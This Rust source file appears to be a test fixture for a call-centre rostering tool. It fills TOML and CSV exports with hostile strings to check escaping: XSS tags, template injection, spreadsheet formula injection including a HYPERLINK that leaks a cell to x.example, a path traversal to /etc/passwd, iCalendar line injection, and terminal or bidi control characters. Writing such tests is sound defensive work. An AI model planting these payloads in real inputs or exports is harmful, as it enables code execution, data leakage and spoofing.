//! A small desk whose texts are attacks, and the same one with harmless texts.

pub const TITLE: &str = "</script><script>alert(1)</script> {{7*7}} ${7*7} & \"x\" ]]> | <!--";
pub const LINE: &str = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
pub const OTHER: &str = "-2+3+cmd|' /C calc'!A0";
pub const LABEL: &str = "@SUM(1+1)*cmd|x <img src=x onerror=alert(1)> *b* [l](javascript:1)";

/// Notes: the only texts of many lines, and the only ones that may hold what is not seen.
pub const NOTES: [&str; 3] = [
    "a\r\nEND:VEVENT\r\nBEGIN:VALARM\r\n<b>\u{1b}]8;;http://x\u{7}\u{202e}",
    "~~~\n1. one\n- two\n| a | b |\n|---|---|\n<script>\u{9b}2J",
    "\u{feff}=1+1\t\u{0}\u{2066}&lt;b&gt; <svg onload=alert(1)> \\x",
];

/// Characters that are not seen.
pub const HIDDEN: [&str; 5] = ["\u{1b}[31m", "\u{202e}", "\u{9b}2J", "\u{2067}", "\u{7}"];

const PEOPLE: [&str; 4] =
    ["=cmd|' /C calc'!A0", "../../etc/passwd", "con", "<b>Ala</b>; \"DROP\" \\N {PID}"];

const SHOWN: [&str; 4] = [
    "+48=1\";<script>alert(1)</script>",
    "Ala\\nEND:VEVENT, ;: ]]>",
    "%0D%0ABEGIN:VEVENT _x0041_ &amp;",
    "@Ola {{x}} <a href='javascript:1'>",
];

/// The texts of a desk.
pub struct Desk {
    title: &'static str,
    lines: [&'static str; 2],
    label: &'static str,
    notes: [&'static str; 3],
    people: [&'static str; 4],
    shown: [&'static str; 4],
}

pub const NASTY: Desk = Desk {
    title: TITLE,
    lines: [LINE, OTHER],
    label: LABEL,
    notes: NOTES,
    people: PEOPLE,
    shown: SHOWN,
};

pub const BLAND: Desk = Desk {
    title: "Desk",
    lines: ["City", "Aid"],
    label: "later",
    notes: ["one", "two", "three"],
    people: ["P", "Q", "R", "S"],
    shown: ["Ala", "Ola", "Ela", "Iza"],
};

/// Text as TOML has it.
fn quoted(text: &str) -> String {
    let escaped: String = text
        .chars()
        .map(|c| match c {
            '"' | '\\' => format!("\\{c}"),
            c if c.is_ascii() && !c.is_control() => c.to_string(),
            c => format!("\\U{:08X}", u32::from(c)),
        })
        .collect();
    format!("\"{escaped}\"")
}

impl Desk {
    pub fn scenario(&self) -> String {
        let [title, label] = [self.title, self.label].map(quoted);
        let [city, aid] = self.lines.map(quoted);
        let [one, two, three] = self.notes.map(quoted);
        let people = self.people.map(|name| {
            let name = quoted(name);
            format!(
                "[[consultant]]\nname = {name}\ngroup = \"g\"\ncontract = \"full\"\n\
                 wishes = [{{ off = 2026-11-05, grade = 2, reason = {one} }}]\n\
                 absent = [{{ from = 2026-11-07, to = 2026-11-07, kind = {two} }}]\n"
            )
        });
        format!(
            "title = {title}\nlocale = \"en\"\n\
             [calendar]\ninterval_minutes = 60\nweek_start = 2026-11-02\n\
             [[line]]\nid = \"city\"\nname = {city}\nopen = \"08:00\"\nclose = \"16:00\"\n\
             close_candidates = [\"16:00\", {{ label = {label}, tue = \"17:00\" }}]\n\
             aht = {{ value = 240, low = 200, high = 300, basis = \"assumed\", note = {one} }}\n\
             [line.demand]\ncalls_per_week = {{ value = 60, basis = \"stated\", note = {two} }}\n\
             profile = [{{ from = \"08:00\", to = \"16:00\", share = 1.0 }}]\nprofile_note = {three}\n\
             [[line.target]]\nmean_wait = \"10m\"\nover = \"week\"\n\
             [[line]]\nid = \"aid\"\nname = {aid}\nopen = \"08:00\"\nclose = \"16:00\"\naht = 180\n\
             [line.demand]\ncalls_per_week = 40\n[[line.target]]\nmean_wait = \"10m\"\nover = \"week\"\n\
             [[group]]\nid = \"g\"\nname = {city}\nlines = [\"city\", \"aid\"]\n\
             hourly_cost = {{ value = 48, low = 42, high = 56, basis = \"assumed\", note = {three} }}\n\
             contracts = [{{ id = \"full\", weekly_hours = 40, days_per_week = 5 }}]\n\
             [[shift]]\nid = \"day\"\ngroups = [\"g\"]\nstarts = [\"08:00\", \"09:00\"]\nlengths = [\"8h\"]\n\
             [cost]\nserved_call = {{ value = 12, low = 4, high = 24, basis = \"assumed\", note = {one} }}\n\
             [roster]\nweeks = 1\n{}",
            people.concat()
        )
    }

    /// The file that says what people are called.
    pub fn names(&self) -> String {
        let field = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
        let rows = self.people.iter().zip(self.shown);
        let rows: Vec<String> =
            rows.map(|(id, name)| format!("{},{},a@x.pl\n", field(id), field(name))).collect();
        format!("id,name,email\n{}", rows.concat())
    }
}
